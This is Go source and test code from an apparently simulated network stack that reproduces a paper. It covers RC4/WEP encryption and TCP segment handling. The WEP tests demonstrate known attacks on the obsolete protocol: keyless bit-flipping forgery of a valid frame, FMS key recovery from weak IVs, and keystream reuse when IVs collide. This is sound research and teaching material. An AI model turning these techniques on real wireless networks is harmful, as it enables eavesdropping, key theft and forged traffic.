// NextIV implements IVSource.
func (w *WeakAvoidingIV) NextIV() IV {
	for {
		iv := IVFromUint32(w.counter)
		w.counter = (w.counter + 1) & 0xffffff
		if !iv.IsWeak(w.KeyLen) {
			return iv
		}
	}
}
