package wep

import "repro/internal/pkt"

// maxKeySize bounds the stack space for per-frame keys (IV + WEP-128 key).
const maxKeySize = IVLen + KeySize104

// SealInPlace encrypts a packet buffer's view in place, producing bytes
// identical to Seal: the IV and key-ID byte are pushed into the buffer's
// headroom, the ICV is extended into its tailroom, and RC4 runs over the body
// where it lies. Nothing is allocated: the per-frame RC4 state lives on the
// stack (see RC4.Reset).
//
//simvet:owner borrow in-place crypto over the caller's view; the caller keeps the release obligation
func SealInPlace(key Key, iv IV, keyID byte, pb *pkt.Buf) {
	if err := key.Validate(); err != nil {
		panic(err)
	}
	icv := crc32ieee(pb.Bytes())
	putLE32(pb.Extend(ICVLen), icv)
	hdr := pb.Push(HeaderLen)
	copy(hdr, iv[:])
	hdr[IVLen] = keyID & 0x03
	var perFrame [maxKeySize]byte
	n := copy(perFrame[:], iv[:])
	n += copy(perFrame[n:], key)
	var c RC4
	c.Reset(perFrame[:n])
	body := pb.Bytes()[HeaderLen:]
	c.XORKeyStream(body, body)
}

// OpenInPlace decrypts a sealed WEP payload where it lies, popping the
// IV/key-ID header and trimming the ICV so the buffer's view becomes the
// plaintext. On error the buffer's contents are unspecified (the body may be
// half-transformed); the caller still owns it and must Release as usual.
//
//simvet:owner borrow in-place crypto over the caller's view; the caller keeps the release obligation
func OpenInPlace(key Key, pb *pkt.Buf) error {
	if err := key.Validate(); err != nil {
		return err
	}
	if pb.Len() < Overhead {
		return ErrShort
	}
	hdr := pb.Pop(HeaderLen)
	var perFrame [maxKeySize]byte
	n := copy(perFrame[:], hdr[:IVLen])
	n += copy(perFrame[n:], key)
	var c RC4
	c.Reset(perFrame[:n])
	body := pb.Bytes()
	c.XORKeyStream(body, body)
	plaintext := body[:len(body)-ICVLen]
	if crc32ieee(plaintext) != le32(body[len(plaintext):]) {
		return ErrICV
	}
	pb.Trim(ICVLen)
	return nil
}
