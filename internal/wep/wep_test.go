package wep

import (
	"bytes"
	"hash/crc32"
	"testing"
	"testing/quick"
)

// RC4 test vectors from RFC 6229 (key lengths 40 and 128 bits).
func TestRC4RFC6229Vectors(t *testing.T) {
	cases := []struct {
		key  []byte
		want []byte // first 16 keystream bytes
	}{
		{
			key: []byte{0x01, 0x02, 0x03, 0x04, 0x05},
			want: []byte{0xb2, 0x39, 0x63, 0x05, 0xf0, 0x3d, 0xc0, 0x27,
				0xcc, 0xc3, 0x52, 0x4a, 0x0a, 0x11, 0x18, 0xa8},
		},
		{
			key: []byte{0x01, 0x02, 0x03, 0x04, 0x05, 0x06, 0x07, 0x08,
				0x09, 0x0a, 0x0b, 0x0c, 0x0d, 0x0e, 0x0f, 0x10},
			want: []byte{0x9a, 0xc7, 0xcc, 0x9a, 0x60, 0x9d, 0x1e, 0xf7,
				0xb2, 0x93, 0x28, 0x99, 0xcd, 0xe4, 0x1b, 0x97},
		},
	}
	for _, c := range cases {
		got := NewRC4(c.key).Keystream(16)
		if !bytes.Equal(got, c.want) {
			t.Errorf("key %x: keystream %x, want %x", c.key, got, c.want)
		}
	}
}

func TestRC4OffsetVector(t *testing.T) {
	// RFC 6229, key 0x0102030405, bytes at offset 240..255.
	c := NewRC4([]byte{0x01, 0x02, 0x03, 0x04, 0x05})
	c.Keystream(240)
	got := c.Keystream(16)
	want := []byte{0x28, 0xcb, 0x11, 0x32, 0xc9, 0x6c, 0xe2, 0x86,
		0x42, 0x1d, 0xca, 0xad, 0xb8, 0xb6, 0x9e, 0xae}
	if !bytes.Equal(got, want) {
		t.Fatalf("offset-240 keystream %x, want %x", got, want)
	}
}

func TestRC4EncryptDecrypt(t *testing.T) {
	f := func(key []byte, msg []byte) bool {
		if len(key) == 0 || len(key) > 256 {
			key = []byte{1, 2, 3}
		}
		ct := make([]byte, len(msg))
		NewRC4(key).XORKeyStream(ct, msg)
		pt := make([]byte, len(ct))
		NewRC4(key).XORKeyStream(pt, ct)
		return bytes.Equal(pt, msg)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

func TestRC4BadKeyPanics(t *testing.T) {
	for _, n := range []int{0, 257} {
		n := n
		func() {
			defer func() {
				if recover() == nil {
					t.Errorf("key size %d did not panic", n)
				}
			}()
			NewRC4(make([]byte, n))
		}()
	}
}

func TestCRC32MatchesStdlib(t *testing.T) {
	f := func(p []byte) bool {
		return crc32ieee(p) == crc32.ChecksumIEEE(p)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

func TestKeyValidate(t *testing.T) {
	if Key(make([]byte, 5)).Validate() != nil {
		t.Error("40-bit key rejected")
	}
	if Key(make([]byte, 13)).Validate() != nil {
		t.Error("104-bit key rejected")
	}
	for _, n := range []int{0, 4, 6, 12, 14} {
		if Key(make([]byte, n)).Validate() == nil {
			t.Errorf("%d-byte key accepted", n)
		}
	}
}

func TestKey40FromString(t *testing.T) {
	k := Key40FromString("SECRET")
	if len(k) != 5 || string(k) != "SECRE" {
		t.Fatalf("key = %q", k)
	}
	if string(Key40FromString("AB")) != "AB\x00\x00\x00" {
		t.Fatal("short passphrase not padded")
	}
}

func TestSealOpenRoundTrip(t *testing.T) {
	key := Key40FromString("SECRET")
	msg := []byte("attack at dawn")
	sealed := Seal(key, IV{1, 2, 3}, 0, msg)
	if len(sealed) != len(msg)+Overhead {
		t.Fatalf("sealed len %d", len(sealed))
	}
	got, err := Open(key, sealed)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, msg) {
		t.Fatalf("got %q", got)
	}
}

func TestOpenWrongKeyFails(t *testing.T) {
	sealed := Seal(Key40FromString("SECRET"), IV{1, 2, 3}, 0, []byte("hello"))
	if _, err := Open(Key40FromString("WRONG"), sealed); err != ErrICV {
		t.Fatalf("err = %v, want ErrICV", err)
	}
}

func TestOpenDetectsNaiveCorruption(t *testing.T) {
	key := Key40FromString("SECRET")
	sealed := Seal(key, IV{9, 9, 9}, 0, []byte("hello world"))
	sealed[HeaderLen+2] ^= 0x01
	if _, err := Open(key, sealed); err != ErrICV {
		t.Fatalf("err = %v, want ErrICV", err)
	}
}

func TestOpenShortFrame(t *testing.T) {
	if _, err := Open(Key40FromString("SECRET"), make([]byte, Overhead-1)); err != ErrShort {
		t.Fatalf("err = %v, want ErrShort", err)
	}
}

func TestQuickSealOpen(t *testing.T) {
	key := Key(make([]byte, 13))
	copy(key, "thirteenbytes")
	f := func(ivRaw uint32, msg []byte) bool {
		iv := IVFromUint32(ivRaw)
		got, err := Open(key, Seal(key, iv, 1, msg))
		return err == nil && bytes.Equal(got, msg)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

func TestPeekIV(t *testing.T) {
	sealed := Seal(Key40FromString("SECRET"), IV{7, 8, 9}, 0, []byte("x"))
	iv, err := PeekIV(sealed)
	if err != nil || iv != (IV{7, 8, 9}) {
		t.Fatalf("iv=%v err=%v", iv, err)
	}
	if _, err := PeekIV([]byte{1}); err != ErrShort {
		t.Fatal("short accepted")
	}
}

// The paper: "in the attack scenarios we present here [WEP] provides no
// protection what so ever." One reason: anyone can flip bits without the key.
func TestFlipBitsForgesValidFrame(t *testing.T) {
	key := Key40FromString("SECRET")
	msg := []byte("PAY $100 TO ALICE")
	sealed := Seal(key, IV{5, 5, 5}, 0, msg)

	// Attacker (no key) turns ALICE into MALLO by XOR delta.
	delta := make([]byte, 5)
	for i, c := range []byte("MALLO") {
		delta[i] = c ^ msg[12+i]
	}
	forged, err := FlipBits(sealed, 12, delta)
	if err != nil {
		t.Fatal(err)
	}
	got, err := Open(key, forged)
	if err != nil {
		t.Fatalf("forged frame failed ICV: %v", err)
	}
	if string(got) != "PAY $100 TO MALLO" {
		t.Fatalf("got %q", got)
	}
}

func TestFlipBitsRangeChecks(t *testing.T) {
	sealed := Seal(Key40FromString("SECRET"), IV{1, 1, 1}, 0, []byte("abcd"))
	if _, err := FlipBits(sealed, 3, []byte{1, 1}); err == nil {
		t.Error("out-of-range delta accepted")
	}
	if _, err := FlipBits([]byte{1, 2}, 0, []byte{1}); err != ErrShort {
		t.Error("short frame accepted")
	}
}

func TestQuickFlipBits(t *testing.T) {
	key := Key40FromString("SECRET")
	f := func(msg []byte, off8 uint8, delta []byte) bool {
		if len(msg) == 0 {
			msg = []byte{0}
		}
		off := int(off8) % len(msg)
		if len(delta) > len(msg)-off {
			delta = delta[:len(msg)-off]
		}
		sealed := Seal(key, IV{1, 2, 3}, 0, msg)
		forged, err := FlipBits(sealed, off, delta)
		if err != nil {
			return false
		}
		got, err := Open(key, forged)
		if err != nil {
			return false
		}
		want := append([]byte(nil), msg...)
		for i, d := range delta {
			want[off+i] ^= d
		}
		return bytes.Equal(got, want)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

func TestIVRoundTripAndWeakness(t *testing.T) {
	f := func(v uint32) bool {
		v &= 0xffffff
		return IVFromUint32(v).Uint32() == v
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
	if !(IV{3, 255, 7}).IsWeak(KeySize40) {
		t.Error("(3,255,7) should be weak for byte 0")
	}
	if !(IV{7, 255, 0}).IsWeak(KeySize40) {
		t.Error("(7,255,0) should be weak for byte 4")
	}
	if (IV{8, 255, 0}).IsWeak(KeySize40) {
		t.Error("(8,255,0) beyond 40-bit key bytes")
	}
	if !(IV{8, 255, 0}).IsWeak(KeySize104) {
		t.Error("(8,255,0) weak for 104-bit keys")
	}
	if (IV{3, 254, 7}).IsWeak(KeySize40) {
		t.Error("second byte must be 255")
	}
}

func TestSequentialIVWrapsAndCovers(t *testing.T) {
	s := &SequentialIV{}
	first := s.NextIV()
	if first != (IV{0, 0, 0}) {
		t.Fatalf("first IV %v", first)
	}
	s.counter = 0xffffff
	if s.NextIV() != (IV{255, 255, 255}) {
		t.Fatal("last IV")
	}
	if s.NextIV() != (IV{0, 0, 0}) {
		t.Fatal("wrap")
	}
}

func TestRandomIVUsesLow24Bits(t *testing.T) {
	r := &RandomIV{Rand: func() uint32 { return 0xff123456 }}
	if r.NextIV() != IVFromUint32(0x123456) {
		t.Fatal("high bits leaked into IV")
	}
}

func TestWeakAvoidingIVNeverWeak(t *testing.T) {
	w := &WeakAvoidingIV{KeyLen: KeySize40}
	w.counter = 3<<16 | 255<<8 // start right at a weak run
	for i := 0; i < 2000; i++ {
		if iv := w.NextIV(); iv.IsWeak(KeySize40) {
			t.Fatalf("weak IV emitted: %v", iv)
		}
	}
}

func TestSampleFromSealed(t *testing.T) {
	key := Key40FromString("SECRET")
	iv := IV{3, 255, 7}
	plaintext := []byte{SNAPFirstByte, 0xaa, 0x03}
	sealed := Seal(key, iv, 0, plaintext)
	s, err := SampleFromSealed(sealed, SNAPFirstByte)
	if err != nil {
		t.Fatal(err)
	}
	if s.IV != iv {
		t.Fatalf("iv %v", s.IV)
	}
	if s.K0 != FirstKeystreamByte(key, iv) {
		t.Fatal("derived keystream byte wrong")
	}
}

func TestFirstKeystreamByteMatchesSeal(t *testing.T) {
	key := Key40FromString("kyxzq")
	for v := uint32(0); v < 300; v += 7 {
		iv := IVFromUint32(v)
		sealed := Seal(key, iv, 0, []byte{SNAPFirstByte})
		if sealed[HeaderLen]^SNAPFirstByte != FirstKeystreamByte(key, iv) {
			t.Fatalf("mismatch at iv %v", iv)
		}
	}
}

// crackWith runs a full FMS recovery against key, feeding every weak IV
// repetitions of the given count, and reports the recovered key.
func crackWith(t *testing.T, key Key) Key {
	t.Helper()
	c := NewCracker(len(key))
	c.Verify = func(k Key) bool {
		ref := Seal(key, IV{200, 1, 1}, 0, []byte("verify me please"))
		_, err := Open(k, ref)
		return err == nil
	}
	// Feed every weak IV (b+3, 255, x) — what a sequential-IV network leaks
	// over one IV-space pass.
	for b := 0; b < len(key); b++ {
		for x := 0; x < 256; x++ {
			iv := IV{byte(b + 3), 255, byte(x)}
			c.AddSample(Sample{IV: iv, K0: FirstKeystreamByte(key, iv)})
		}
	}
	got, err := c.RecoverKey()
	if err != nil {
		t.Fatalf("RecoverKey: %v (weak frames %d)", err, c.WeakFrames)
	}
	return got
}

func TestFMSRecovers40BitKey(t *testing.T) {
	key := Key40FromString("SECRE")
	if got := crackWith(t, key); !bytes.Equal(got, key) {
		t.Fatalf("recovered %x, want %x", got, key)
	}
}

func TestFMSRecoversBinary40BitKey(t *testing.T) {
	key := Key{0xde, 0xad, 0xbe, 0xef, 0x42}
	if got := crackWith(t, key); !bytes.Equal(got, key) {
		t.Fatalf("recovered %x, want %x", got, key)
	}
}

func TestFMSRecovers104BitKey(t *testing.T) {
	if testing.Short() {
		t.Skip("104-bit crack is slow")
	}
	key := Key([]byte("thirteenbytes"))
	if got := crackWith(t, key); !bytes.Equal(got, key) {
		t.Fatalf("recovered %x, want %x", got, key)
	}
}

func TestFMSNotEnoughSamples(t *testing.T) {
	c := NewCracker(KeySize40)
	for x := 0; x < 4; x++ {
		iv := IV{3, 255, byte(x)}
		c.AddSample(Sample{IV: iv, K0: 0})
	}
	if _, err := c.RecoverKey(); err != ErrNotEnough {
		t.Fatalf("err = %v, want ErrNotEnough", err)
	}
}

func TestFMSIgnoresStrongIVs(t *testing.T) {
	c := NewCracker(KeySize40)
	c.AddSample(Sample{IV: IV{1, 2, 3}, K0: 0})
	if c.WeakFrames != 0 {
		t.Fatal("strong IV counted as weak")
	}
	if c.Frames != 1 {
		t.Fatal("frame not counted")
	}
}

func TestFMSStarvedByWeakAvoidingIVs(t *testing.T) {
	// Ablation: when the sender skips weak IVs, the cracker gets nothing.
	key := Key40FromString("SECRE")
	c := NewCracker(KeySize40)
	src := &WeakAvoidingIV{KeyLen: KeySize40}
	for i := 0; i < 50000; i++ {
		iv := src.NextIV()
		c.AddSample(Sample{IV: iv, K0: FirstKeystreamByte(key, iv)})
	}
	if c.WeakFrames != 0 {
		t.Fatalf("cracker saw %d weak frames from avoiding source", c.WeakFrames)
	}
	if _, err := c.RecoverKey(); err == nil {
		t.Fatal("key recovered without weak IVs")
	}
}

func TestKeystreamReuseOnIVCollision(t *testing.T) {
	// Two frames sealed with the same IV leak the XOR of their plaintexts —
	// the keystream-reuse hazard of the 24-bit IV space.
	key := Key40FromString("SECRE")
	a := []byte("first secret msg")
	b := []byte("other hidden txt")
	sa := Seal(key, IV{1, 2, 3}, 0, a)
	sb := Seal(key, IV{1, 2, 3}, 0, b)
	for i := range a {
		ctXor := sa[HeaderLen+i] ^ sb[HeaderLen+i]
		if ctXor != a[i]^b[i] {
			t.Fatal("ciphertext XOR does not equal plaintext XOR under IV reuse")
		}
	}
}

func BenchmarkSeal1500(b *testing.B) {
	key := Key40FromString("SECRE")
	msg := make([]byte, 1500)
	iv := &SequentialIV{}
	b.SetBytes(1500)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		Seal(key, iv.NextIV(), 0, msg)
	}
}

func BenchmarkOpen1500(b *testing.B) {
	key := Key40FromString("SECRE")
	sealed := Seal(key, IV{1, 2, 3}, 0, make([]byte, 1500))
	b.SetBytes(1500)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := Open(key, sealed); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkFirstKeystreamByte(b *testing.B) {
	key := Key40FromString("SECRE")
	iv := &SequentialIV{}
	for i := 0; i < b.N; i++ {
		FirstKeystreamByte(key, iv.NextIV())
	}
}

// BenchmarkWEPSeal is the per-layer marshal bench gated by scripts/bench.sh:
// a full WEP encapsulation (IV header, RC4 keystream, ICV) of an MTU-sized
// payload.
func BenchmarkWEPSeal(b *testing.B) {
	key := Key40FromString("SECRE")
	msg := make([]byte, 1400)
	iv := &SequentialIV{}
	b.SetBytes(int64(len(msg)))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		Seal(key, iv.NextIV(), 0, msg)
	}
}
