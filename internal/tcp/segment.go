// Package tcp implements a simplified but behaviourally honest TCP over the
// simulated IPv4 stack: three-way handshake, cumulative ACKs, out-of-order
// reassembly, Jacobson RTT estimation with exponential-backoff
// retransmission, Reno-style congestion control (slow start, congestion
// avoidance, fast retransmit), graceful FIN teardown, RST handling and
// TIME_WAIT.
//
// The congestion machinery is not decoration: experiment E6 reproduces the
// paper's observation (§5.3) that a PPP-over-SSH VPN "has drawbacks since
// any UDP traffic is subject to unnecessary retransmission by TCP" — the
// TCP-over-TCP meltdown — which only shows up if both the inner and outer
// loops genuinely retransmit and back off.
//
// The API is event-driven (callbacks, no goroutines) because connections
// live inside a single-threaded discrete-event kernel.
package tcp

import (
	"encoding/binary"
	"errors"

	"repro/internal/inet"
	"repro/internal/ipv4"
)

// HeaderLen is the TCP header size (no options are emitted).
const HeaderLen = 20

// MSS is the maximum segment size (Ethernet MTU minus IP and TCP headers).
const MSS = 1460

// Flags.
const (
	flagFIN = 1 << 0
	flagSYN = 1 << 1
	flagRST = 1 << 2
	flagACK = 1 << 4
)

// segment is a parsed TCP segment.
type segment struct {
	srcPort, dstPort inet.Port
	seq, ack         uint32
	flags            uint8
	window           uint16
	// mss is the MSS option value; emitted on SYN segments when non-zero,
	// parsed from received SYNs (0 = absent).
	mss     uint16
	payload []byte
}

func (s *segment) fin() bool    { return s.flags&flagFIN != 0 }
func (s *segment) syn() bool    { return s.flags&flagSYN != 0 }
func (s *segment) rst() bool    { return s.flags&flagRST != 0 }
func (s *segment) hasACK() bool { return s.flags&flagACK != 0 }

// seqLen is the sequence space the segment occupies.
func (s *segment) seqLen() uint32 {
	n := uint32(len(s.payload))
	if s.syn() {
		n++
	}
	if s.fin() {
		n++
	}
	return n
}

// headerLen is the serialised header size including options.
func (s *segment) headerLen() int {
	if s.syn() && s.mss != 0 {
		return HeaderLen + 4 // MSS option: kind 2, len 4, value(2)
	}
	return HeaderLen
}

// wireLen is the serialised segment size.
func (s *segment) wireLen() int { return s.headerLen() + len(s.payload) }

// marshal serialises with the pseudo-header checksum.
func (s *segment) marshal(src, dst inet.Addr) []byte {
	b := make([]byte, s.wireLen())
	s.marshalInto(b, src, dst)
	return b
}

// marshalInto serialises into b, which must be exactly wireLen() bytes.
// Every byte is written, so b may come from a recycled buffer.
func (s *segment) marshalInto(b []byte, src, dst inet.Addr) {
	hdr := s.headerLen()
	binary.BigEndian.PutUint16(b[0:2], uint16(s.srcPort))
	binary.BigEndian.PutUint16(b[2:4], uint16(s.dstPort))
	binary.BigEndian.PutUint32(b[4:8], s.seq)
	binary.BigEndian.PutUint32(b[8:12], s.ack)
	b[12] = byte(hdr/4) << 4 // data offset
	b[13] = s.flags
	binary.BigEndian.PutUint16(b[14:16], s.window)
	b[16], b[17] = 0, 0 // checksum placeholder
	b[18], b[19] = 0, 0 // urgent pointer
	if hdr > HeaderLen {
		b[20], b[21] = 2, 4
		binary.BigEndian.PutUint16(b[22:24], s.mss)
	}
	copy(b[hdr:], s.payload)
	sum := inet.PseudoHeaderSum(src, dst, ipv4.ProtoTCP, uint16(len(b)))
	sum = inet.SumBytes(sum, b)
	binary.BigEndian.PutUint16(b[16:18], inet.FinishChecksum(sum))
}

var errBadSegment = errors.New("tcp: bad segment")

// unmarshalSegment parses and verifies a segment.
func unmarshalSegment(src, dst inet.Addr, b []byte) (segment, error) {
	if len(b) < HeaderLen {
		return segment{}, errBadSegment
	}
	sum := inet.PseudoHeaderSum(src, dst, ipv4.ProtoTCP, uint16(len(b)))
	sum = inet.SumBytes(sum, b)
	if inet.FinishChecksum(sum) != 0 {
		return segment{}, errBadSegment
	}
	off := int(b[12]>>4) * 4
	if off < HeaderLen || off > len(b) {
		return segment{}, errBadSegment
	}
	s := segment{
		srcPort: inet.Port(binary.BigEndian.Uint16(b[0:2])),
		dstPort: inet.Port(binary.BigEndian.Uint16(b[2:4])),
		seq:     binary.BigEndian.Uint32(b[4:8]),
		ack:     binary.BigEndian.Uint32(b[8:12]),
		flags:   b[13],
		window:  binary.BigEndian.Uint16(b[14:16]),
		payload: b[off:],
	}
	// Parse options for the MSS value.
	opts := b[HeaderLen:off]
	for len(opts) > 0 {
		switch opts[0] {
		case 0: // end of options
			opts = nil
		case 1: // nop
			opts = opts[1:]
		default:
			if len(opts) < 2 || int(opts[1]) < 2 || int(opts[1]) > len(opts) {
				opts = nil
				break
			}
			if opts[0] == 2 && opts[1] == 4 {
				s.mss = binary.BigEndian.Uint16(opts[2:4])
			}
			opts = opts[opts[1]:]
		}
	}
	return s, nil
}

// Sequence-space comparisons (RFC 793 modular arithmetic).
func seqLT(a, b uint32) bool  { return int32(a-b) < 0 }
func seqLEQ(a, b uint32) bool { return int32(a-b) <= 0 }
