package tcp

import (
	"bytes"
	"testing"
	"testing/quick"

	"repro/internal/ethernet"
	"repro/internal/inet"
	"repro/internal/ipv4"
	"repro/internal/sim"
)

// pair is two hosts with TCP stacks on one switch, with an optional
// packet-mangling hook between them.
type pair struct {
	k    *sim.Kernel
	a, b *Stack
}

func newPair(t *testing.T) *pair {
	t.Helper()
	k := sim.NewKernel(1)
	var alloc ethernet.MACAllocator
	sw := ethernet.NewSwitch(k, &alloc, ethernet.SwitchConfig{})
	prefix := inet.MustParsePrefix("10.0.0.0/24")

	ipA := ipv4.NewStack(k, "A")
	ipA.AddIface("eth0", sw.Attach(alloc.Next()), inet.MustParseAddr("10.0.0.1"), prefix)
	ipB := ipv4.NewStack(k, "B")
	ipB.AddIface("eth0", sw.Attach(alloc.Next()), inet.MustParseAddr("10.0.0.2"), prefix)
	return &pair{k: k, a: NewStack(ipA), b: NewStack(ipB)}
}

var srvAddr = inet.MustParseHostPort("10.0.0.2:80")

// lossHook drops a deterministic subset of TCP packets.
type lossHook struct {
	n    int
	drop func(n int) bool
}

func (h *lossHook) Filter(point ipv4.HookPoint, pkt *ipv4.Packet, in, out string) ipv4.Verdict {
	if point != ipv4.HookOutput || pkt.Proto != ipv4.ProtoTCP {
		return ipv4.VerdictAccept
	}
	h.n++
	if h.drop != nil && h.drop(h.n) {
		return ipv4.VerdictDrop
	}
	return ipv4.VerdictAccept
}

func TestHandshakeAndEcho(t *testing.T) {
	p := newPair(t)
	l, err := p.b.Listen(80)
	if err != nil {
		t.Fatal(err)
	}
	l.OnAccept = func(c *Conn) {
		c.OnData = func(b []byte) {
			if err := c.Write(bytes.ToUpper(b)); err != nil {
				t.Errorf("server write: %v", err)
			}
		}
	}
	c, err := p.a.Dial(srvAddr)
	if err != nil {
		t.Fatal(err)
	}
	var got []byte
	connected := false
	c.OnConnect = func() {
		connected = true
		if err := c.Write([]byte("hello tcp")); err != nil {
			t.Errorf("client write: %v", err)
		}
	}
	c.OnData = func(b []byte) { got = append(got, b...) }
	p.k.RunUntil(5 * sim.Second)
	if !connected {
		t.Fatal("never connected")
	}
	if string(got) != "HELLO TCP" {
		t.Fatalf("got %q", got)
	}
	if c.State() != StateEstablished {
		t.Fatalf("state %v", c.State())
	}
}

func TestLargeTransfer(t *testing.T) {
	p := newPair(t)
	l, _ := p.b.Listen(80)
	var rx []byte
	l.OnAccept = func(c *Conn) {
		c.OnData = func(b []byte) { rx = append(rx, b...) }
	}
	c, _ := p.a.Dial(srvAddr)
	payload := make([]byte, 200_000)
	for i := range payload {
		payload[i] = byte(i * 31)
	}
	c.OnConnect = func() { _ = c.Write(payload) }
	p.k.RunUntil(30 * sim.Second)
	if !bytes.Equal(rx, payload) {
		t.Fatalf("received %d bytes, want %d (content match %v)", len(rx), len(payload), bytes.Equal(rx, payload))
	}
}

func TestGracefulClose(t *testing.T) {
	p := newPair(t)
	l, _ := p.b.Listen(80)
	var srvConn *Conn
	srvEOF, srvClosed := false, false
	l.OnAccept = func(c *Conn) {
		srvConn = c
		c.OnEOF = func() {
			srvEOF = true
			c.Close() // close our side in response
		}
		c.OnClose = func(err error) {
			if err != nil {
				t.Errorf("server close err: %v", err)
			}
			srvClosed = true
		}
	}
	c, _ := p.a.Dial(srvAddr)
	cliClosed := false
	c.OnConnect = func() {
		_ = c.Write([]byte("bye"))
		c.Close()
	}
	c.OnClose = func(err error) {
		if err != nil {
			t.Errorf("client close err: %v", err)
		}
		cliClosed = true
	}
	p.k.RunUntil(20 * sim.Second)
	if !srvEOF || !srvClosed || !cliClosed {
		t.Fatalf("srvEOF=%v srvClosed=%v cliClosed=%v", srvEOF, srvClosed, cliClosed)
	}
	_ = srvConn
	if p.a.Conns() != 0 || p.b.Conns() != 0 {
		t.Fatalf("leaked conns: a=%d b=%d", p.a.Conns(), p.b.Conns())
	}
}

func TestConnectionRefused(t *testing.T) {
	p := newPair(t)
	c, _ := p.a.Dial(inet.MustParseHostPort("10.0.0.2:9999"))
	var gotErr error
	c.OnClose = func(err error) { gotErr = err }
	p.k.RunUntil(5 * sim.Second)
	if gotErr != ErrConnRefused {
		t.Fatalf("err = %v, want ErrConnRefused", gotErr)
	}
}

func TestDialTimeoutWhenPeerSilent(t *testing.T) {
	p := newPair(t)
	// Drop everything B would receive: use a hook on B's input.
	p.b.ip.AddHook(&lossHook{drop: func(int) bool { return true }})
	// Actually drop on A's output so SYNs never leave.
	c, _ := p.a.Dial(srvAddr)
	var gotErr error
	c.OnClose = func(err error) { gotErr = err }
	p.k.RunUntil(3 * sim.Minute)
	if gotErr != ErrTimeout && gotErr != ErrConnRefused {
		t.Fatalf("err = %v, want timeout/refused", gotErr)
	}
}

func TestRetransmissionRecoversLoss(t *testing.T) {
	p := newPair(t)
	// Drop every 7th TCP packet A sends.
	h := &lossHook{drop: func(n int) bool { return n%7 == 0 }}
	p.a.ip.AddHook(h)
	l, _ := p.b.Listen(80)
	var rx []byte
	l.OnAccept = func(c *Conn) {
		c.OnData = func(b []byte) { rx = append(rx, b...) }
	}
	c, _ := p.a.Dial(srvAddr)
	payload := make([]byte, 100_000)
	for i := range payload {
		payload[i] = byte(i)
	}
	c.OnConnect = func() { _ = c.Write(payload) }
	p.k.RunUntil(2 * sim.Minute)
	if !bytes.Equal(rx, payload) {
		t.Fatalf("received %d/%d bytes intact=%v", len(rx), len(payload), bytes.Equal(rx, payload))
	}
	if c.Retransmits == 0 {
		t.Fatal("no retransmissions counted despite loss")
	}
}

func TestBidirectionalTransferUnderLoss(t *testing.T) {
	p := newPair(t)
	p.a.ip.AddHook(&lossHook{drop: func(n int) bool { return n%11 == 0 }})
	p.b.ip.AddHook(&lossHook{drop: func(n int) bool { return n%13 == 0 }})
	l, _ := p.b.Listen(80)
	var rxServer, rxClient []byte
	want := 50_000
	l.OnAccept = func(c *Conn) {
		c.OnData = func(b []byte) {
			rxServer = append(rxServer, b...)
			_ = c.Write(b) // echo
		}
	}
	c, _ := p.a.Dial(srvAddr)
	c.OnData = func(b []byte) { rxClient = append(rxClient, b...) }
	payload := make([]byte, want)
	for i := range payload {
		payload[i] = byte(i * 7)
	}
	c.OnConnect = func() { _ = c.Write(payload) }
	p.k.RunUntil(2 * sim.Minute)
	if !bytes.Equal(rxServer, payload) || !bytes.Equal(rxClient, payload) {
		t.Fatalf("server %d/%d, client %d/%d", len(rxServer), want, len(rxClient), want)
	}
}

func TestOutOfOrderDeliveryReassembles(t *testing.T) {
	// Corrupting order at the IP layer is hard on a switch, so simulate by
	// dropping one packet and letting retransmission fill the gap: later
	// segments arrive first and must be buffered.
	p := newPair(t)
	dropped := false
	p.a.ip.AddHook(&lossHook{drop: func(n int) bool {
		if n == 5 && !dropped {
			dropped = true
			return true
		}
		return false
	}})
	l, _ := p.b.Listen(80)
	var rx []byte
	l.OnAccept = func(c *Conn) {
		c.OnData = func(b []byte) { rx = append(rx, b...) }
	}
	c, _ := p.a.Dial(srvAddr)
	payload := make([]byte, 30_000)
	for i := range payload {
		payload[i] = byte(i % 251)
	}
	c.OnConnect = func() { _ = c.Write(payload) }
	p.k.RunUntil(sim.Minute)
	if !bytes.Equal(rx, payload) {
		t.Fatalf("reassembly failed: %d/%d", len(rx), len(payload))
	}
}

func TestFastRetransmit(t *testing.T) {
	p := newPair(t)
	dropped := false
	p.a.ip.AddHook(&lossHook{drop: func(n int) bool {
		// Drop one data segment mid-stream; subsequent segments generate
		// dup ACKs that trigger fast retransmit before the RTO.
		if !dropped && n == 6 {
			dropped = true
			return true
		}
		return false
	}})
	l, _ := p.b.Listen(80)
	var rx []byte
	l.OnAccept = func(c *Conn) {
		c.OnData = func(b []byte) { rx = append(rx, b...) }
	}
	c, _ := p.a.Dial(srvAddr)
	payload := make([]byte, 100_000)
	c.OnConnect = func() { _ = c.Write(payload) }
	p.k.RunUntil(sim.Minute)
	if len(rx) != len(payload) {
		t.Fatalf("incomplete: %d/%d", len(rx), len(payload))
	}
	if c.FastRetransmits == 0 {
		t.Fatal("loss recovered without fast retransmit (dup-ack path untested)")
	}
}

func TestAbortSendsRST(t *testing.T) {
	p := newPair(t)
	l, _ := p.b.Listen(80)
	var srvErr error
	accepted := false
	l.OnAccept = func(c *Conn) {
		accepted = true
		c.OnClose = func(err error) { srvErr = err }
	}
	c, _ := p.a.Dial(srvAddr)
	c.OnConnect = func() {
		_ = c.Write([]byte("then suddenly"))
		p.k.After(100*sim.Millisecond, c.Abort)
	}
	p.k.RunUntil(5 * sim.Second)
	if !accepted {
		t.Fatal("not accepted")
	}
	if srvErr != ErrReset {
		t.Fatalf("server err = %v, want ErrReset", srvErr)
	}
}

func TestWriteAfterCloseFails(t *testing.T) {
	p := newPair(t)
	_, _ = p.b.Listen(80)
	c, _ := p.a.Dial(srvAddr)
	c.OnConnect = func() {
		c.Close()
		if err := c.Write([]byte("late")); err == nil {
			t.Error("write after close succeeded")
		}
	}
